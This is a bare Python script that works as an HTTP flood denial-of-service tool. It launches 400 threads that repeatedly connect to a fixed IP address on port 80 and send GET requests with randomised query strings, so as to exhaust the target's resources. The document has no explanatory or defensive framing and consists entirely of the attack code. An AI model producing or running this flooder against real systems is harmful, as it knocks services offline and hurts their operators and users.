import random, socket, threading
def work():
    while True:
        s = socket.socket(); s.settimeout(1)
        try:
            s.connect(("198.51.100.83", 80)); s.send(b"GET /?%d HTTP/1.1\r\n\r\n" % random.random().__hash__())
        except OSError: pass
        s.close()
for _ in range(400): threading.Thread(target=work, daemon=True).start()
threading.Event().wait()
